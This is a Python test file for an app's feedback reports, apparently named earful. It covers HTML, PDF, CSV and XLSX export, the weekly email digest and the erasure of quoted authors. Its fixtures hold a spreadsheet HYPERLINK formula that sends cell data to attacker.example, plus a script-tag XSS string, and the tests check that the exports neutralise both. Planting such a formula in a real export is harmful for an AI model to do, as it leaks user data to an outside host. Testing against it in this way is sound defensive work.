"""Reports: what they say, in HTML, PDF, CSV and XLSX; the weekly digest by email; erasure."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.exc import IntegrityError
from weasyprint import HTML

from earful.contracts import Actor
from earful.ingest.privacy import erase_author
from earful.insights import reports
from earful.insights.report import wilson
from earful.pipeline.pseudonymise import author_key
from earful.settings import Settings
from earful.store.db import Database
from earful.store.repos import insights as insights_repo
from earful.store.repos.feed import FeedFilter
from tests.conftest import IN_CI
from tests.factories import label, make_source, posts_at
from tests.insights.test_explain import END, plant, store_spike
from tests.servers import Inbox

START = datetime(2026, 11, 2, tzinfo=UTC)  # a Monday
WEEK = (START, START + timedelta(days=7))
ARTIFACTS = Path(__file__).resolve().parents[2] / "artifacts" / "reports"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your tips")'
SCRIPT = "<script>alert('x')</script> the app logs me out at every stop"
ADMIN = Actor(None, "admin", "admin")


def _world(db: Database, settings: Settings) -> dict[str, list[int]]:
    listening_since = START - timedelta(days=30)
    london = make_source(db, "r/london_drivers", region="London", created_at=listening_since)
    madrid = make_source(db, "r/madrid_drivers", region="Madrid", created_at=listening_since)
    made = {
        "gps": posts_at(db, london, [START + timedelta(hours=h) for h in range(0, 150, 3)], "GPS pin wrong"),
        "crash": posts_at(db, madrid, [START + timedelta(hours=h) for h in range(2, 90, 4)], SCRIPT),
        "tips": posts_at(db, london, [START + timedelta(days=3, hours=h) for h in range(12)], "tips missing"),
        "formula": posts_at(
            db, london, [START + timedelta(days=4)], FORMULA, author_key=author_key(settings.secret, "@ann")
        ),
    }
    label(db, made["gps"], "app.gps_maps", "complaint")
    label(db, made["crash"], "app.crashes_login", "complaint", confidence=0.95)
    label(db, made["tips"], "pay.tips", "neutral")
    label(db, made["formula"], "pay.tips", "complaint", confidence=0.99)
    return made


def test_a_report_says_what_happened_and_links_to_the_posts(db: Database, settings: Settings) -> None:
    made = _world(db, settings)
    report = reports.make(db, settings, ADMIN, FeedFilter(), *WEEK)
    content = report.content
    assert content.trends.total.posts == 85
    assert [i.key for i in content.issues[:3]] == ["app.gps_maps", "app.crashes_login", "pay.tips"]
    tips = content.issues[2]
    assert tips.complaints == 1 and tips.examples[0].post_id == made["formula"][0]  # complaints first
    assert tips.examples[0].author_key == author_key(settings.secret, "@ann")  # a pseudonym, never a handle
    document = reports.file(db, report.id, "html")[0].decode()
    assert "<script>alert" not in document and "&lt;script&gt;alert" in document
    assert f"{settings.base_url}/posts/{made['formula'][0]}" in document
    assert f"{settings.base_url}/feed?category=app.gps_maps" in document
    assert "taxonomy version 1" in document
    assert "keyword rules" in document  # no trained model: the report says accuracy is unmeasured
    coverage = {c.name: c.state for c in content.coverage}
    assert coverage == {"r/london_drivers": "imports", "r/madrid_drivers": "imports"}


def test_exports_write_post_text_as_text_never_as_a_formula(db: Database, settings: Settings) -> None:
    _world(db, settings)
    report = reports.make(db, settings, ADMIN, FeedFilter(), *WEEK)
    rows = list(csv.reader(io.StringIO(reports.file(db, report.id, "csv")[0].decode())))
    texts = [row[9] for row in rows if row and row[0] == "top issues"]
    assert any(text.startswith("'" + FORMULA) for text in texts)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    book = load_workbook(io.BytesIO(reports.file(db, report.id, "xlsx")[0]))
    sheet = book["top issues"]
    cells = [
        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    assert book["categories"]["C2"].value == 72  # counts stay numbers


def _overflow(document: str) -> float:
    """Return how far (CSS px) the furthest text line reaches past the right edge of its page's content."""
    worst = 0.0
    for page in HTML(string=document).render().pages:
        box = page._page_box  # WeasyPrint's laid-out page: the only way to measure where text went
        edge = box.margin_width() - box.margin_right - box.padding_right
        stack = [box]
        while stack:
            node = stack.pop()
            children = list(getattr(node, "children", None) or [])
            stack.extend(children)
            if type(node).__name__ == "TextBox":
                worst = max(worst, node.position_x + node.width - edge)
    return worst


def test_the_pdf_shows_its_charts_and_no_text_overflows(db: Database, settings: Settings) -> None:
    if not (shutil.which("pdftoppm") and shutil.which("pdftotext")):
        message = "pdftoppm and pdftotext (poppler-utils) are needed to read the PDF back"
        if IN_CI:
            pytest.fail(message)
        pytest.skip(message)
    _world(db, settings)
    # A long unbroken word and a long source name must wrap, not run off the page.
    odd = make_source(db, "r/" + "very_long_source_name_" * 5, region="Madrid")
    label(db, posts_at(db, odd, [START + timedelta(days=1)], "x" * 400), "app.gps_maps", "complaint")
    report = reports.make(db, settings, ADMIN, FeedFilter(), *WEEK)
    pdf = reports.file(db, report.id, "pdf")[0]
    assert pdf.startswith(b"%PDF")
    assert _overflow(reports.file(db, report.id, "html")[0].decode()) <= 0.5
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    target = ARTIFACTS / "weekly-report.pdf"
    target.write_bytes(pdf)
    for old in ARTIFACTS.glob("weekly-report-page-*.png"):
        old.unlink()
    subprocess.run(
        ["pdftoppm", "-r", "90", "-png", str(target), str(ARTIFACTS / "weekly-report-page")], check=True
    )
    pages = sorted(ARTIFACTS.glob("weekly-report-page-*.png"))
    assert len(pages) >= 2 and all(p.stat().st_size > 20_000 for p in pages)
    text = subprocess.run(["pdftotext", str(target), "-"], capture_output=True, text=True, check=True).stdout
    # The charts are drawn as text and shapes, so their labels and numbers can be read (and found).
    for words in ("Volume and sentiment over time", "App & technology", "complaint", "London", "Madrid"):
        assert words in text


def test_the_weekly_digest_is_emailed_with_its_pdf_once(
    db: Database, settings: Settings, smtp: Inbox
) -> None:
    _world(db, settings)
    mail = settings.model_copy(
        update={
            "smtp_host": "127.0.0.1",
            "smtp_port": smtp.port,
            "leadership_emails": ["coo@example.org", "ops-lead@example.org"],
            "mail_from": "earful@example.org",
        }
    )
    monday = START + timedelta(days=7, hours=9)  # after 08:00 on the Monday after the week
    # A deployment with nothing listening that week sends no digest of it.
    assert reports.weekly(db, mail, now=START - timedelta(days=35)) is None
    made = reports.weekly(db, mail, now=monday)
    assert made is not None
    assert reports.weekly(db, mail, now=monday + timedelta(hours=3)) is None  # made once a week
    assert len(smtp.messages) == 1
    recipients, message = smtp.messages[0]
    assert sorted(recipients) == ["coo@example.org", "ops-lead@example.org"]
    assert message["Subject"] == "Weekly digest: 02 Nov 2026 to 08 Nov 2026"  # the last day it covers
    attachments = list(message.iter_attachments())
    assert [a.get_content_type() for a in attachments] == ["application/pdf"]
    assert attachments[0].get_content().startswith(b"%PDF")
    assert reports.summary(db, made).emailed_to == ["coo@example.org", "ops-lead@example.org"]


def test_the_digest_covers_the_seven_days_before_its_send_day(settings: Settings) -> None:
    zoned = settings.model_copy(update={"time_zone": "Europe/Madrid", "digest_weekday": 0, "digest_hour": 8})
    wednesday = datetime(2026, 11, 11, 12, tzinfo=UTC)
    send_at, since, until = reports.digest_window(zoned, wednesday)
    # Madrid is UTC+1 in November: the week is 1 Nov 23:00 to 8 Nov 23:00 UTC, sent 9 Nov 07:00 UTC.
    assert send_at == datetime(2026, 11, 9, 7, tzinfo=UTC)
    assert (since, until) == (datetime(2026, 11, 1, 23, tzinfo=UTC), datetime(2026, 11, 8, 23, tzinfo=UTC))
    early = reports.digest_window(zoned, datetime(2026, 11, 9, 6, tzinfo=UTC))  # 07:00 Monday in Madrid
    assert early[2] == datetime(2026, 11, 1, 23, tzinfo=UTC)  # not sent yet: the latest is last week's


def test_erasing_a_quoted_person_withdraws_the_reports_that_quote_them(
    db: Database, settings: Settings
) -> None:
    _world(db, settings)
    report = reports.make(db, settings, ADMIN, FeedFilter(), *WEEK)
    erase_author(db, settings, ADMIN, "@ann", "r/london_drivers")
    with pytest.raises(Exception, match="erased"):
        reports.file(db, report.id, "pdf")
    assert reports.summary(db, report.id).withdrawn


def test_wilson_intervals() -> None:
    low, high = wilson(8, 10)
    assert (round(low, 3), round(high, 3)) == (0.490, 0.943)
    assert wilson(0, 0) == (0.0, 1.0)


def test_a_week_has_one_digest_however_many_workers_make_it(db: Database, settings: Settings) -> None:
    _world(db, settings)
    reports.make(db, settings, None, FeedFilter(), *WEEK, kind="weekly")
    with pytest.raises(IntegrityError):
        reports.make(db, settings, None, FeedFilter(), *WEEK, kind="weekly")
    reports.make(db, settings, None, FeedFilter(), *WEEK)  # on-demand reports of the same week are fine


def test_a_report_explains_its_spikes_in_html_and_pdf(db: Database, settings: Settings) -> None:
    plant(db)
    spike_id = store_spike(db)
    report = reports.make(
        db, settings, ADMIN, FeedFilter(), END - timedelta(days=1), END + timedelta(hours=1)
    )
    content = report.content
    about = content.explanations[spike_id]
    sentence = (
        "App & technology > Crashes and login: 50 posts in 3 hours where 0 are usual, mostly UK; "
        "'update 4.2', 'scanner'"
    )
    assert about.sentence == sentence
    # Its typical posts are quoted: erasing their authors must withdraw the report, as for examples.
    assert {e.post_id for e in about.examples} <= set(content.post_ids)
    document = reports.file(db, report.id, "html")[0].decode()
    assert sentence.replace("&", "&amp;").replace(">", "&gt;").replace("'", "&#39;") in document
    assert "<i>again</i>" not in document and "&lt;i&gt;again&lt;/i&gt;" in document
    assert "a_uk0x0" in document  # the pseudonym, the only author a report names
    rows = list(csv.reader(io.StringIO(reports.file(db, report.id, "csv")[0].decode())))
    assert any(row and row[0] == "spikes" and sentence in row for row in rows)
    if not shutil.which("pdftotext"):
        if IN_CI:
            pytest.fail("pdftotext (poppler-utils) is needed to read the PDF back")
        return
    pdf = tmp_pdf = ARTIFACTS / "spike-report.pdf"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    tmp_pdf.write_bytes(reports.file(db, report.id, "pdf")[0])
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    flat = " ".join(text.split())
    assert "Crashes and login: 50 posts in 3 hours where 0 are usual, mostly UK" in flat
    assert "broke the scanner <i>again</i>" in flat  # shown as text, never read as markup


def test_without_pango_a_report_says_what_to_install_and_the_demo_still_runs(
    db: Database, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    from earful.cli.demo_insights import show_insights
    from earful.insights.render import PdfUnavailable

    _world(db, settings)
    monkeypatch.setitem(sys.modules, "weasyprint", None)  # as where libpango cannot be loaded
    with pytest.raises(PdfUnavailable, match=r"libpango-1\.0-0") as refused:
        reports.make(db, settings, ADMIN, FeedFilter(), *WEEK)
    assert refused.value.status == 503
    summary = show_insights(db, settings)
    assert summary is not None and "no first report: PDF reports need the Pango library" in summary
    # Run again after a first run that found a spike (and escalated), it does not escalate twice.
    with db.write() as session:
        insights_repo.save_spike(
            session,
            category="",
            region="London",
            started_at=START + timedelta(days=3),
            ended_at=START + timedelta(days=3, hours=1),
            observed=12,
            expected=1.0,
            score=8.0,
        )
    again = show_insights(db, settings)  # still no Pango: no escalation again, and the same advice
    assert again is not None and again.startswith("1 spike(s) found before, no first report")
    monkeypatch.delitem(sys.modules, "weasyprint")  # Pango installed, as the advice says
    made = show_insights(db, settings)
    assert made is not None and made.startswith("1 spike(s) found before, report ")
    assert show_insights(db, settings) is None  # once made, never again
